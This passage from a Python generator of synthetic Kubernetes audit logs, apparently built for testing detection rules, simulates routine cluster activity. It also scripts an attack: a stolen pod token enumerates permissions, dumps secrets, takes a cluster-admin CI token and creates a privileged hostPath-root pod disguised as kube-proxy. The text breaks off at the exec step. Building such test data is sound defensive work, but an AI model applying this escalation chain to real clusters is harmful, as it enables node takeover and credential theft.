        code=201,
    )
    for i, (resource, name) in enumerate(mounts):
        log.emit(t + (36 + 3 * i) * MS, kubelet, "get", Target(resource, pod.namespace, name))
    status = Target("pods", pod.namespace, pod.name, subresource="status")
    log.emit(t + 60 * MS, kubelet, "patch", status)
    cilium = c.addon(
        "kube-system", "cilium", "cilium-agent/v1.15.6 (linux/amd64)", node.ip, "cilium", "cilium"
    )
    log.emit(
        t + 1100 * MS + log.jitter(80),
        cilium,
        "create",
        Target("ciliumendpoints", pod.namespace, pod.name),
        code=201,
    )
    for k in range(4):  # Pulling, Pulled, Created, Started
        _kubelet_event(c, t + (1300 + 700 * k) * MS + log.jitter(60), pod)
    log.emit(t + 3900 * MS + log.jitter(100), kubelet, "patch", status)
    log.emit(t + 6500 * MS + log.jitter(400), kubelet, "patch", status)


def _stop_pod(c: Cluster, t: int, pod: Pod) -> None:
    """Kubelet side of a graceful delete: Killing event, status, final delete, CNI cleanup."""
    log, node = c.log, pod.node
    kubelet = c.kubelet(node)
    _kubelet_event(c, t + 40 * MS, pod)  # Killing
    log.emit(
        t + 1200 * MS + log.jitter(200),
        kubelet,
        "patch",
        Target("pods", pod.namespace, pod.name, subresource="status"),
    )
    cilium = c.addon(
        "kube-system", "cilium", "cilium-agent/v1.15.6 (linux/amd64)", node.ip, "cilium", "cilium"
    )
    log.emit(t + 1500 * MS, cilium, "delete", Target("ciliumendpoints", pod.namespace, pod.name))
    final = t + 1800 * MS + log.jitter(200)
    log.emit(
        final,
        kubelet,
        "delete",
        Target("pods", pod.namespace, pod.name),
        req={
            "kind": "DeleteOptions",
            "apiVersion": "v1",
            "gracePeriodSeconds": 0,
            "preconditions": {"uid": pod.uid},
        },
    )
    pod.deleted = final


def _create_pod(
    c: Cluster,
    t: int,
    actor: Actor,
    *,
    namespace: str,
    name: str | None,
    generate_name: str | None,
    node: Node,
    spec: Json,
    labels: dict[str, str],
    owner: Json | None = None,
    sa: str = "default",
    pss: str = "baseline:latest",
    bind: bool = True,
) -> tuple[Pod, Json]:
    """A pod create (RequestResponse) and, if the scheduler places it, its binding."""
    log = c.log
    pod_name = name or f"{generate_name}{log.suffix()}"
    pod = Pod(
        pod_name,
        namespace,
        node,
        c.pod_ip(node) if not spec.get("hostNetwork") else node.ip,
        log.uuid(),
        sa,
        t,
    )
    req: Json = {
        "kind": "Pod",
        "apiVersion": "v1",
        "metadata": _meta(
            name,
            namespace if name else None,
            generate_name=generate_name,
            labels=labels,
            owner=owner,
        ),
        "spec": spec,
        "status": {},
    }
    if name is None:
        req["metadata"].pop("namespace", None)
    resp = {
        "kind": "Pod",
        "apiVersion": "v1",
        "metadata": _meta(
            pod_name,
            namespace,
            uid=pod.uid,
            rv=log.rv(t),
            created=t,
            generate_name=generate_name,
            labels=labels,
            owner=owner,
        ),
        "spec": _admitted(spec, sa, None if bind else node.name, f"kube-api-access-{log.suffix()}"),
        "status": {"phase": "Pending", "qosClass": _qos(spec)},
    }
    ev = log.emit(
        t,
        actor,
        "create",
        Target("pods", namespace, pod_name, ref_name=name is not None),
        code=201,
        req=req,
        resp=resp,
        annotations={"pod-security.kubernetes.io/enforce-policy": pss},
    )
    bound = t + 25 * MS
    if bind:
        log.emit(
            bound,
            SCHEDULER_BIND,
            "create",
            Target("pods", namespace, pod_name, subresource="binding"),
            code=201,
        )
        log.emit(
            bound + 4 * MS,
            SCHEDULER_BIND,
            "create",
            Target("events", namespace, group="events.k8s.io"),
            code=201,
        )
    c.pods.append(pod)
    return pod, ev


def _qos(spec: Json) -> str:
    return "Burstable" if any(c.get("resources") for c in spec["containers"]) else "BestEffort"


def _app_spec(app: str, image: str, cm: str, secret: str, port: int) -> Json:
    return {
        "containers": [
            _container(
                app,
                image,
                ports=[{"name": "http", "containerPort": port, "protocol": "TCP"}],
                envFrom=[{"configMapRef": {"name": cm}}, {"secretRef": {"name": secret}}],
                resources={
                    "limits": {"memory": "512Mi"},
                    "requests": {"cpu": "250m", "memory": "256Mi"},
                },
                readinessProbe={
                    "httpGet": {"path": "/healthz", "port": "http", "scheme": "HTTP"},
                    "periodSeconds": 5,
                    "timeoutSeconds": 1,
                    "successThreshold": 1,
                    "failureThreshold": 3,
                },
                securityContext={
                    "allowPrivilegeEscalation": False,
                    "runAsNonRoot": True,
                    "capabilities": {"drop": ["ALL"]},
                },
            )
        ],
        "serviceAccountName": app,
    }


@dataclass
class App:
    """A Deployment the CI rolls out; pods are spread over the workers."""

    namespace: str
    name: str
    replicas: int
    image: str
    port: int
    rs_hash: str = ""
    rs_uid: str = ""
    deploy_uid: str = ""

    @property
    def cm(self) -> str:
        """The app's ConfigMap name."""
        return f"{self.name.split('-')[0]}-flags"

    @property
    def secret(self) -> str:
        """The app's Secret name."""
        return f"{self.name.split('-')[0]}-db-credentials"


def _existing_pods(c: Cluster, apps: Sequence[App]) -> None:
    """Pods that were already running when the window starts."""
    log = c.log
    workers = [n for n in c.nodes if n.name.startswith("k8s-worker") and n.joined < 0]
    for app in apps:
        app.rs_hash, app.rs_uid, app.deploy_uid = log.suffix(10), log.uuid(), log.uuid()
        for i in range(app.replicas):
            node = workers[(i + len(app.name)) % len(workers)]
            c.pods.append(
                Pod(
                    f"{app.name}-{app.rs_hash}-{log.suffix()}",
                    app.namespace,
                    node,
                    c.pod_ip(node),
                    log.uuid(),
                    app.name,
                    -86400 * SEC,
                )
            )


def _rollout(c: Cluster, t: int, app: App, new_image: str) -> int:
    """`kubectl apply` by the CI deployer and the controller cascade it sets off.

    Returns when the rollout finished (the last old pod is gone).
    """
    log = c.log
    ci = _sa_actor(
        "ci",
        "gitlab-deployer",
        "kubectl/v1.30.1 (linux/amd64) kubernetes/7c48c2b",
        "10.0.5.20",
        _CI_REASON,
        c.sa_uid("ci", "gitlab-deployer"),
    )
    ns, name = app.namespace, app.name
    log.emit(t, ci, "get", None, uri="/api?timeout=32s")
    log.emit(t + 8 * MS, ci, "get", None, uri="/apis?timeout=32s")
    t += 160 * MS
    t = _apply_config(log, ci, t, app)
    svc = Target("services", ns, name)
    log.emit(t, ci, "get", svc)
    t += 40 * MS
    deploy = Target("deployments", ns, name)
    log.emit(t, ci, "get", deploy)
    old_hash, new_hash = app.rs_hash, log.suffix(10)
    labels = {"app": name}
    template = {
        "metadata": {"labels": labels},
        "spec": _app_spec(name, new_image, app.cm, app.secret, app.port),
    }
    patch, deploy_body = _deployment_apply(log, t, app, new_image, template)
    t += 12 * MS
    log.emit(
        t,
        ci,
        "patch",
        deploy,
        query="fieldManager=kubectl-client-side-apply&fieldValidation=Strict",
        req=patch,
        resp=deploy_body,
    )
    # kubectl rollout status: watch the Deployment until done (ResponseComplete at the end).
    watch_id, watch_from = log.uuid(), t + 300 * MS
    watch_q = f"fieldSelector=metadata.name%3D{name}&resourceVersion={log.rv(t)}&watch=true"
    watch_tgt = Target("deployments", ns)
    log.emit(
        watch_from + 2 * MS,
        ci,
        "watch",
        watch_tgt,
        query=watch_q,
        stage="ResponseStarted",
        received=watch_from,
        audit_id=watch_id,
    )
    # deployment controller: new ReplicaSet
    dc = c.controller("deployment-controller")
    rsc = c.controller("replicaset-controller")
    new_rs = f"{name}-{new_hash}"
    rs_uid, rs_body, rs_resp = _new_replicaset(log, t, app, new_rs, new_hash, template)
    t += 20 * MS
    log.emit(
        t, dc, "create", Target("replicasets", ns, new_rs), code=201, req=rs_body, resp=rs_resp
    )
    log.emit(t + 15 * MS, dc, "update", Target("deployments", ns, name, subresource="status"))
    old_pods = [p for p in c.pods if p.name.startswith(f"{name}-{old_hash}-")]
    workers = [n for n in c.nodes if n.name.startswith("k8s-worker")]
    t += 40 * MS
    for i, old in enumerate(old_pods):
        node = workers[(i * 2 + len(name)) % len(workers)]
        if node.joined > t:
            node = workers[0]
        pod, _ = _create_pod(
            c,
            t,
            rsc,
            namespace=ns,
            name=None,
            generate_name=f"{new_rs}-",
            node=node,
            spec=template["spec"],
            labels={**labels, "pod-template-hash": new_hash},
            owner=_owner("ReplicaSet", new_rs, rs_uid),
            sa=name,
        )
        _start_pod(c, t + 40 * MS, pod, [("configmaps", app.cm), ("secrets", app.secret)])
        log.emit(
            t + 60 * MS, rsc, "update", Target("replicasets", ns, new_rs, subresource="status")
        )
        ready = t + 7200 * MS + log.jitter(300)
        _endpoints_update(c, ready, i, app)
        _retire_pod(c, ready, dc, rsc, app, old, old_hash)
        t = ready + 400 * MS
    app.rs_hash = new_hash
    done = t + 600 * MS
    log.emit(done, ci, "watch", watch_tgt, query=watch_q, received=watch_from, audit_id=watch_id)
    log.emit(done + 30 * MS, dc, "update", Target("deployments", ns, name, subresource="status"))
    return done


def _endpoints_update(c: Cluster, ready: int, i: int, app: App) -> None:
    """The endpoint controllers add a ready pod (the second one's first write conflicts)."""
    log, ns, name = c.log, app.namespace, app.name
    for ctrl in ("endpointslice-controller", "endpoint-controller"):
        res = "endpointslices" if ctrl.startswith("endpointslice") else "endpoints"
        obj_name = f"{name}-{log.suffix()}" if res == "endpointslices" else name
        code = 409 if (i == 1 and res == "endpoints") else 200
        log.emit(
            ready + log.rng.randrange(5, 30) * MS,
            c.controller(ctrl),
            "update",
            Target(res, ns, obj_name),
            code=code,
        )
        if code == 409:
            log.emit(ready + 45 * MS, c.controller(ctrl), "update", Target(res, ns, obj_name))


def _retire_pod(
    c: Cluster, ready: int, dc: Actor, rsc: Actor, app: App, old: Pod, old_hash: str
) -> None:
    """Scale the old ReplicaSet down and delete one old pod."""
    log, ns, name = c.log, app.namespace, app.name
    labels = {"app": name}
    # scale the old ReplicaSet down and delete one old pod
    log.emit(
        ready + 50 * MS,
        dc,
        "update",
        Target("replicasets", ns, f"{name}-{old_hash}", subresource="scale"),
    )
    delete_at = ready + 80 * MS
    log.emit(
        delete_at,
        rsc,
        "delete",
        Target("pods", ns, old.name),
        req={"kind": "DeleteOptions", "apiVersion": "v1", "preconditions": {"uid": old.uid}},
        resp={
            "kind": "Pod",
            "apiVersion": "v1",
            "metadata": _meta(
                old.name,
                ns,
                uid=old.uid,
                rv=log.rv(delete_at),
                created=-86400 * SEC,
                labels={**labels, "pod-template-hash": old_hash},
            ),
            "status": {"phase": "Running", "podIP": old.ip},
        },
    )
    _stop_pod(c, delete_at, old)


def _new_replicaset(
    log: _Log, t: int, app: App, new_rs: str, new_hash: str, template: Json
) -> tuple[str, Json, Json]:
    """(uid, request, response) of the deployment controller creating the new ReplicaSet."""
    ns, name = app.namespace, app.name
    labels = {"app": name}
    rs_uid = log.uuid()
    rs_body: Json = {
        "kind": "ReplicaSet",
        "apiVersion": "apps/v1",
        "metadata": _meta(
            new_rs,
            ns,
            labels={**labels, "pod-template-hash": new_hash},
            owner=_owner("Deployment", name, app.deploy_uid),
        ),
        "spec": {
            "replicas": 1,
            "selector": {"matchLabels": {**labels, "pod-template-hash": new_hash}},
            "template": template,
        },
        "status": {"replicas": 0},
    }
    rs_resp = {
        **rs_body,
        "metadata": {**rs_body["metadata"], "uid": rs_uid, "resourceVersion": log.rv(t)},
    }
    return rs_uid, rs_body, rs_resp


def _apply_config(log: _Log, ci: Actor, t: int, app: App) -> int:
    """`kubectl apply` of the app's ConfigMap and Secret (get, then patch each); returns
    the time after them."""
    ns = app.namespace
    applied = "kubectl.kubernetes.io/last-applied-configuration"
    # ConfigMap: a DSN with an embedded credential, as teams do (the redactor must catch it).
    cm_data = {
        "FEATURE_NEW_CHECKOUT": "true",
        "LOG_LEVEL": "info",
        "sentry_dsn": f"https://{log.hexid(32)}@o4507.ingest.sentry.io/45071",
    }
    cm_obj: Json = {
        "apiVersion": "v1",
        "kind": "ConfigMap",
        "data": cm_data,
        "metadata": {"name": app.cm, "namespace": ns},
    }
    secret_data = {
        "DB_USER": _b64(ns.encode()),
        "DB_PASSWORD": _random_b64(log, 18),
        "DB_HOST": _b64(f"pg-primary.{ns}-db.svc".encode()),
    }
    secret_obj: Json = {
        "apiVersion": "v1",
        "kind": "Secret",
        "type": "Opaque",
        "data": secret_data,
        "metadata": {"name": app.secret, "namespace": ns},
    }
    for resource, obj_name, obj in (
        ("configmaps", app.cm, cm_obj),
        ("secrets", app.secret, secret_obj),
    ):
        target = Target(resource, ns, obj_name)
        log.emit(t, ci, "get", target)
        last_applied = {applied: _compact(obj) + "\n"}
        obj_patch = {"metadata": {"annotations": last_applied}, "data": obj["data"]}
        body = {
            **obj,
            "metadata": {
                **_meta(obj_name, ns, uid=log.uuid(), rv=log.rv(t), created=t - 40 * 86400 * SEC),
                "annotations": last_applied,
            },
        }
        ev = log.emit(
            t + 12 * MS,
            ci,
            "patch",
            target,
            query="fieldManager=kubectl-client-side-apply&fieldValidation=Strict",
            req=obj_patch,
            resp=body,
        )
        if resource == "secrets":
            log.mark(
                ev,
                "B",
                f"CI deployer applies Secret {ns}/{obj_name} from its runner",
                "at most low (routine secret update by the deployer in the app namespace; "
                "a port of Sigma's medium 'Secrets Modified' rule needs a CI filter)",
            )
        t += 90 * MS
    return t


def _deployment_apply(
    log: _Log, t: int, app: App, new_image: str, template: Json
) -> tuple[Json, Json]:
    """(patch, response body) of `kubectl apply` setting the Deployment's image."""
    ns, name = app.namespace, app.name
    labels = {"app": name}
    applied = "kubectl.kubernetes.io/last-applied-configuration"
    manifest = {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": {"name": name, "namespace": ns, "labels": labels},
        "spec": {
            "replicas": app.replicas,
            "selector": {"matchLabels": labels},
            "template": {
                "metadata": {"labels": labels},
                "spec": {
                    "containers": [{"name": name, "image": new_image}],
                    "serviceAccountName": name,
                },
            },
        },
    }
    patch: Json = {
        "metadata": {"annotations": {applied: _compact(manifest) + "\n"}},
        "spec": {
            "template": {
                "spec": {
                    "$setElementOrder/containers": [{"name": name}],
                    "containers": [{"image": new_image, "name": name}],
                }
            }
        },
    }
    deploy_body = {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": _meta(
            name, ns, uid=app.deploy_uid, rv=log.rv(t), created=t - 40 * 86400 * SEC, labels=labels
        ),
        "spec": {
            "replicas": app.replicas,
            "selector": {"matchLabels": labels},
            "template": template,
            "strategy": {
                "type": "RollingUpdate",
                "rollingUpdate": {"maxUnavailable": 0, "maxSurge": 1},
            },
        },
        "status": {"observedGeneration": 41, "replicas": app.replicas},
    }
    return patch, deploy_body


def _b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def _random_b64(log: _Log, n: int) -> str:
    """Base64 of `n` random bytes (a Secret value)."""
    return _b64(log.rng.randbytes(n))


def _fake_jwt(log: _Log, claims: Json) -> str:
    """A JWT-shaped service-account token with a random (meaningless) signature."""

    def part(data: bytes) -> str:
        return base64.urlsafe_b64encode(data).rstrip(b"=").decode()

    header = part(json.dumps({"alg": "RS256", "kid": part(log.rng.randbytes(32))}).encode())
    return f"{header}.{part(json.dumps(claims).encode())}.{part(log.rng.randbytes(256))}"


def _daemonset_pods(
    c: Cluster, t: int, ds: str, ds_uid: str, spec: Json, nodes: Sequence[Node]
) -> list[tuple[Pod, Json]]:
    """The daemon-set controller creates one pod per node (pinned via node affinity)."""
    dsc = c.controller("daemon-set-controller")
    pods = []
    for i, node in enumerate(nodes):
        per_node = _deepcopy(spec)
        per_node["affinity"] = {
            "nodeAffinity": {
                "requiredDuringSchedulingIgnoredDuringExecution": {
                    "nodeSelectorTerms": [
                        {
                            "matchFields": [
                                {"key": "metadata.name", "operator": "In", "values": [node.name]}
                            ]
                        }
                    ]
                }
            }
        }
        created = t + i * 11 * MS
        pod, ev = _create_pod(
            c,
            created,
            dsc,
            namespace="kube-system",
            name=None,
            generate_name=f"{ds}-",
            node=node,
            spec=per_node,
            labels={
                "k8s-app": ds,
                "controller-revision-hash": "6d9c8b7f5c",
                "pod-template-generation": "1",
            },
            owner=_owner("DaemonSet", ds, ds_uid),
            sa=spec["serviceAccountName"],
            pss="privileged:latest",
        )
        _start_pod(c, created + 40 * MS, pod)
        pods.append((pod, ev))
    return pods


def _node_join(c: Cluster) -> None:
    """k8s-worker-5 joins: bootstrap CSR, Node create, and the CNI and kube-proxy pods."""
    log = c.log
    node = next(n for n in c.nodes if n.name == "k8s-worker-5")
    t = node.joined - 2600 * MS
    boot = Actor(
        "system:bootstrap:9x2kqw",
        (
            "system:bootstrappers",
            "system:bootstrappers:kubeadm:default-node-token",
            "system:authenticated",
        ),
        f"kubelet/{_UA_TAIL}",
        node.ip,
        _rbac(
            "ClusterRoleBinding",
            "kubeadm:kubelet-bootstrap",
            "ClusterRole",
            "system:node-bootstrapper",
            'Group "system:bootstrappers:kubeadm:default-node-token"',
        ),
    )
    csr = f"csr-{log.suffix()}"
    ev = log.emit(
        t, boot, "create", Target("certificatesigningrequests", name=csr, ref_name=False), code=201
    )
    log.mark(
        ev,
        "B",
        "kubelet bootstrap token requests a client certificate (node join)",
        "nothing at medium+: CSR by a bootstrap identity",
    )
    log.emit(
        t + 210 * MS,
        c.controller("certificate-controller"),
        "update",
        Target("certificatesigningrequests", name=csr, subresource="approval"),
    )
    log.emit(t + 1400 * MS, boot, "get", Target("certificatesigningrequests", name=csr))
    log.emit(node.joined, c.kubelet(node), "create", Target("nodes", name=node.name), code=201)
    kube_proxy = {
        "hostNetwork": True,
        "priorityClassName": "system-node-critical",
        "serviceAccountName": "kube-proxy",
        "nodeSelector": {"kubernetes.io/os": "linux"},
        "tolerations": [{"operator": "Exists"}],
        "containers": [
            _container(
                "kube-proxy",
                f"registry.k8s.io/kube-proxy:{K8S_VERSION}",
                command=[
                    "/usr/local/bin/kube-proxy",
                    "--config=/var/lib/kube-proxy/config.conf",
                    "--hostname-override=$(NODE_NAME)",
                ],
                securityContext={"privileged": True},
                volumeMounts=[
                    {"name": "kube-proxy", "mountPath": "/var/lib/kube-proxy"},
                    {"name": "xtables-lock", "mountPath": "/run/xtables.lock"},
                    {"name": "lib-modules", "readOnly": True, "mountPath": "/lib/modules"},
                ],
            )
        ],
        "volumes": [
            {"name": "kube-proxy", "configMap": {"name": "kube-proxy"}},
            {
                "name": "xtables-lock",
                "hostPath": {"path": "/run/xtables.lock", "type": "FileOrCreate"},
            },
            {"name": "lib-modules", "hostPath": {"path": "/lib/modules", "type": ""}},
        ],
    }
    cilium = {
        "hostNetwork": True,
        "priorityClassName": "system-node-critical",
        "serviceAccountName": "cilium",
        "tolerations": [{"operator": "Exists"}],
        "initContainers": [
            _container(
                "mount-bpf-fs",
                "quay.io/cilium/cilium:v1.15.6",
                command=["/bin/bash", "-c", "--"],
                args=['mount | grep "/sys/fs/bpf type bpf" || mount -t bpf bpf /sys/fs/bpf'],
                securityContext={"privileged": True},
                volumeMounts=[
                    {
                        "name": "bpf-maps",
                        "mountPath": "/sys/fs/bpf",
                        "mountPropagation": "Bidirectional",
                    }
                ],
            )
        ],
        "containers": [
            _container(
                "cilium-agent",
                "quay.io/cilium/cilium:v1.15.6",
                command=["cilium-agent"],
                args=["--config-dir=/tmp/cilium/config-map"],
                securityContext={"privileged": True},
                volumeMounts=[
                    {"name": "bpf-maps", "mountPath": "/sys/fs/bpf"},
                    {"name": "cilium-run", "mountPath": "/var/run/cilium"},
                    {"name": "cni-path", "mountPath": "/host/opt/cni/bin"},
                    {"name": "etc-cni-netd", "mountPath": "/host/etc/cni/net.d"},
                    {"name": "lib-modules", "readOnly": True, "mountPath": "/lib/modules"},
                ],
            )
        ],
        "volumes": [
            {"name": n, "hostPath": {"path": p, "type": "DirectoryOrCreate"}}
            for n, p in (
                ("bpf-maps", "/sys/fs/bpf"),
                ("cilium-run", "/var/run/cilium"),
                ("cni-path", "/opt/cni/bin"),
                ("etc-cni-netd", "/etc/cni/net.d"),
                ("lib-modules", "/lib/modules"),
            )
        ],
    }
    t = node.joined + 1700 * MS
    for ds, spec, delay in (
        ("cilium", cilium, 0),
        ("kube-proxy", kube_proxy, 30),
    ):
        [(_, ev)] = _daemonset_pods(c, t + delay * MS, ds, log.uuid(), spec, [node])
        log.mark(
            ev,
            "B",
            f"daemon-set controller creates the {ds} pod on the new node",
            "nothing at medium+: privileged, hostNetwork, hostPath, but by a system principal",
        )


# --------------------------------------------------------------------------- people


def _discovery(c: Cluster, t: int, actor: Actor) -> int:
    c.log.emit(t, actor, "get", None, uri="/api?timeout=32s")
    c.log.emit(t + 11 * MS, actor, "get", None, uri="/apis?timeout=32s")
    return t + 90 * MS


def _people(c: Cluster) -> None:
    """Developers, an SRE and an admin using kubectl (some requests are marked look-alikes)."""
    log = c.log
    # Raj (developer): checks his pods and logs, watches the rollout, asks what he may do.
    t = _discovery(c, at(2, 14.2), RAJ)
    log.emit(t, RAJ, "list", Target("pods", "storefront"), query="limit=500")
    pod = c.live("storefront", "storefront-web-", t)[0]
    log.emit(
        t + 19 * SEC,
        RAJ,
        "get",
        Target("pods", "storefront", pod.name, subresource="log"),
        query="container=storefront-web&tailLines=200",
    )
    t = at(3, 2.7)  # kubectl describe pod
    log.emit(t, RAJ, "get", Target("pods", "storefront", pod.name))
    log.emit(
        t + 24 * MS,
        RAJ,
        "list",
        Target("events", "storefront"),
        query=f"fieldSelector=involvedObject.name%3D{pod.name}%2CinvolvedObject.namespace%3D"
        f"storefront%2CinvolvedObject.uid%3D{pod.uid}&limit=500",
    )
    t = at(6, 4.0)  # kubectl get pods -w during the deploy
    wid = log.uuid()
    q = f"resourceVersion={log.rv(t)}&watch=true"
    log.emit(
        t + 900,
        RAJ,
        "watch",
        Target("pods", "storefront"),
        query=q,
        stage="ResponseStarted",
        received=t,
        audit_id=wid,
    )
    log.emit(
        at(7, 41.5), RAJ, "watch", Target("pods", "storefront"), query=q, received=t, audit_id=wid
    )
    t = at(27, 3.3)
    req: Json = {
        "kind": "SelfSubjectAccessReview",
        "apiVersion": "authorization.k8s.io/v1",
        "metadata": {"creationTimestamp": None},
        "spec": {
            "resourceAttributes": {
                "namespace": "storefront",
                "verb": "create",
                "group": "apps",
                "resource": "deployments",
            }
        },
        "status": {"allowed": False},
    }
    ev = log.emit(
        t,
        RAJ,
        "create",
        Target("selfsubjectaccessreviews"),
        code=201,
        req=req,
        reason=_rbac(
            "ClusterRoleBinding",
            "system:basic-user",
            "ClusterRole",
            "system:basic-user",
            'Group "system:authenticated"',
        ),
    )
    log.mark(
        ev,
        "B",
        "developer runs `kubectl auth can-i create deployments`",
        "at most low (permission check by a known user from the VPN)",
    )

    # Jane (SRE): debugs DNS from a netshoot pod, execs into it, cleans up.
    t = _discovery(c, at(4, 31.0), JANE)
    log.emit(t, JANE, "list", Target("pods", "payments"), query="limit=500")
    api = c.live("payments", "payments-api-", t)[0]
    log.emit(
        t + 14 * SEC,
        JANE,
        "get",
        Target("pods", "payments", api.name, subresource="log"),
        query="container=payments-api&since=10m",
    )
    t = at(5, 20.0)
    spec = {
        "containers": [
            _container("netshoot-dbg", "nicolaka/netshoot:v0.13", args=["sleep", "3600"])
        ],
        "restartPolicy": "Never",
        "dnsPolicy": "ClusterFirst",
    }
    debug, ev = _create_pod(
        c,
        t,
        JANE,
        namespace="payments",
        name="netshoot-dbg",
        generate_name=None,
        node=c.nodes[2],
        spec=spec,
        labels={"run": "netshoot-dbg"},
    )
    log.mark(
        ev,
        "B",
        "SRE creates a netshoot debug pod in payments (not privileged)",
        "nothing at medium+",
    )
    _start_pod(c, t + 40 * MS, debug)
    for when, cmd in (
        (at(6, 2.4), ["nslookup", "payments-db.payments.svc.cluster.local"]),
        (at(6, 48.9), ["dig", "+short", "payments-api.payments.svc.cluster.local"]),
    ):
        query = "".join(f"command={quote(a, safe='')}&" for a in cmd)
        query += "container=netshoot-dbg&stderr=true&stdout=true"
        ex = log.emit(
            when,
            JANE,
            "create",
            Target("pods", "payments", "netshoot-dbg", subresource="exec"),
            query=query,
            code=101,
            stage="ResponseStarted",
        )
        log.mark(
            ex,
            "B",
            f"SRE exec `{' '.join(cmd)}` in the debug pod",
            "at most low (exec into pod; no shell, no credential path)",
        )
    t = at(26, 10.0)
    log.emit(
        t,
        JANE,
        "delete",
        Target("pods", "payments", "netshoot-dbg"),
        req={"kind": "DeleteOptions", "apiVersion": "v1"},
        resp={
            "kind": "Pod",
            "apiVersion": "v1",
            "metadata": _meta(
                "netshoot-dbg",
                "payments",
                uid=debug.uid,
                rv=log.rv(t),
                created=at(5, 20.0),
                labels={"run": "netshoot-dbg"},
            ),
            "status": {"phase": "Running"},
        },
    )
    _stop_pod(c, t, debug)

    # Mei (platform admin): nodes, top, and looks at (does not touch) cluster-admin.
    t = _discovery(c, at(13, 0.6), MEI)
    log.emit(t, MEI, "list", Target("nodes"), query="limit=500")
    log.emit(t + 2 * SEC, MEI, "list", Target("nodes", group="metrics.k8s.io", version="v1beta1"))
    t = at(23, 41.2)
    for i, res in enumerate(("clusterroles", "clusterrolebindings")):
        ev = log.emit(t + i * 21 * SEC, MEI, "get", Target(res, name="cluster-admin"))
        log.mark(
            ev,
            "B",
            f"platform admin views {res}/cluster-admin (kubectl get/describe)",
            "nothing: cluster-admin is read, not bound",
        )


# --------------------------------------------------------------------------- the attack


def _attack(c: Cluster) -> None:
    """The attack story (see README): every event is marked with its step."""
    victim = c.live("storefront", "storefront-web-", at(11, 0))[1]
    reader = _rbac(
        "ClusterRoleBinding",
        "storefront-web-secret-reader",
        "ClusterRole",
        "storefront-secret-reader",
        'ServiceAccount "storefront-web/storefront"',
    )
    stolen = _storefront_actor(c, victim, ATTACKER_IP, ATTACKER_CURL_UA, reader)
    _attack_discovery(c, stolen, reader)

    # 3.. with the stolen cluster-admin CI token, same IP, a renamed kubectl
    admin = _sa_actor(
        "ci",
        "gitlab-deployer",
        ATTACKER_KUBECTL_UA,
        ATTACKER_IP,
        _CI_REASON,
        c.sa_uid("ci", "gitlab-deployer"),
    )
    legacy = dict(_LEGACY_TOKEN)
    pod_name = _attack_node_takeover(c, admin, legacy)
    _attack_persistence(c, admin, legacy, pod_name)


def _attack_discovery(c: Cluster, stolen: Actor, reader: str) -> None:
    """Steps 1 and 2a: the stolen pod token probes, lists secrets, reads the CI token."""
    log = c.log
    # 1. discovery with the pod's token from outside
    t = at(11, 2.31)
    req: Json = {
        "kind": "SelfSubjectRulesReview",
        "apiVersion": "authorization.k8s.io/v1",
        "metadata": {"creationTimestamp": None},
        "spec": {"namespace": "storefront"},
        "status": {"resourceRules": None, "nonResourceRules": None, "incomplete": False},
    }
    ev = log.emit(
        t,
        stolen,
        "create",
        Target("selfsubjectrulesreviews"),
        code=201,
        req=req,
        reason=_rbac(
            "ClusterRoleBinding",
            "system:basic-user",
            "ClusterRole",
            "system:basic-user",
            'Group "system:authenticated"',
        ),
    )
    log.mark(
        ev,
        "1a",
        "stolen storefront-web token asks what it may do (can-i --list)",
        "permission enumeration (selfsubjectrulesreviews); SA token used from an external "
        "IP unlike its pod",
    )
    probes = [
        ("nodes", None),
        ("pods", None),
        ("deployments", None),
        ("daemonsets", None),
        ("namespaces", None),
        ("configmaps", "kube-system"),
        ("clusterroles", None),
        ("clusterrolebindings", None),
        ("serviceaccounts", "kube-system"),
        ("roles", "kube-system"),
        ("cronjobs", None),
        ("pods", "kube-system"),
    ]
    t = at(11, 5.87)
    for resource, ns in probes:
        ev = log.emit(t, stolen, "list", Target(resource, ns), code=403)
        log.mark(
            ev,
            "1b",
            f"list {resource}{' in ' + ns if ns else ' (all namespaces)'}: denied",
            "forbidden burst: 12 denied list calls from one external IP within 15 s",
        )
        t += round(log.rng.uniform(0.6, 2.1) * SEC)
    t = at(11, 24.08)
    ev = log.emit(t, stolen, "list", Target("secrets"), query="limit=500", reason=reader)
    log.mark(
        ev,
        "1c",
        "list secrets in all namespaces: allowed (over-broad ClusterRole)",
        "secret dump: cluster-wide list of secrets (Secrets Enumeration)",
    )

    # 2. the CI deployer's legacy token, read from its Secret
    t = at(11, 58.62)
    ev = log.emit(t, stolen, "get", Target("secrets", "ci", "gitlab-deployer-token"), reason=reader)
    log.mark(
        ev,
        "2a",
        "get secret ci/gitlab-deployer-token (a cluster-admin legacy token)",
        "secret read by a pod-bound token from outside the cluster with a curl UA",
    )


def _attack_node_takeover(c: Cluster, admin: Actor, legacy: dict[str, str]) -> str:
    """Steps 2b to 4: with the CI token, a privileged pod on a node and exec into it;
    returns the pod's name."""
    log = c.log
    for i, path in enumerate(("/api?timeout=32s", "/apis?timeout=32s")):
        ev = log.emit(at(13, 47.5) + i * 11 * MS, admin, "get", None, uri=path, annotations=legacy)
        log.mark(
            ev,
            "2b",
            f"API discovery ({path.split('?')[0]}) with the stolen CI token",
            "nothing by itself: a known identity from a new IP with a new user agent",
        )
    node = c.nodes[2]
    pod_name = "kube-proxy-upgrade-7d4f"
    spec = {
        "nodeName": node.name,
        "hostPID": True,
        "hostNetwork": True,
        "hostIPC": True,
        "tolerations": [{"operator": "Exists"}],
        "containers": [
            _container(
                "upgrade",
                "alpine:3.19",
                command=["sleep", "infinity"],
                stdin=True,
                tty=True,
                securityContext={"privileged": True},
                volumeMounts=[{"name": "host", "mountPath": "/host"}],
            )
        ],
        "volumes": [{"name": "host", "hostPath": {"path": "/", "type": ""}}],
    }
    t = at(14, 10.44)
    pod, ev = _create_pod(
        c,
        t,
        admin,
        namespace="kube-system",
        name=pod_name,
        generate_name=None,
        node=node,
        spec=spec,
        labels={"k8s-app": "kube-proxy"},
        pss="privileged:latest",
        bind=False,
    )
    ev["annotations"].update(legacy)
    log.mark(
        ev,
        "3",
        "create privileged pod kube-system/kube-proxy-upgrade-7d4f: hostPath /, "
        "hostPID, hostNetwork, hostIPC, pinned to k8s-worker-2",
        "privileged container; sensitive hostPath mount (/); hostPID/hostNetwork/hostIPC; "
        "pod created in kube-system by a non-system identity",
    )
    _start_pod(c, t + 20 * MS, pod)

    # 4. exec: steal the node's view, then a shell
    for step, when, cmd, extra, what, expect in (
        (
            "4a",
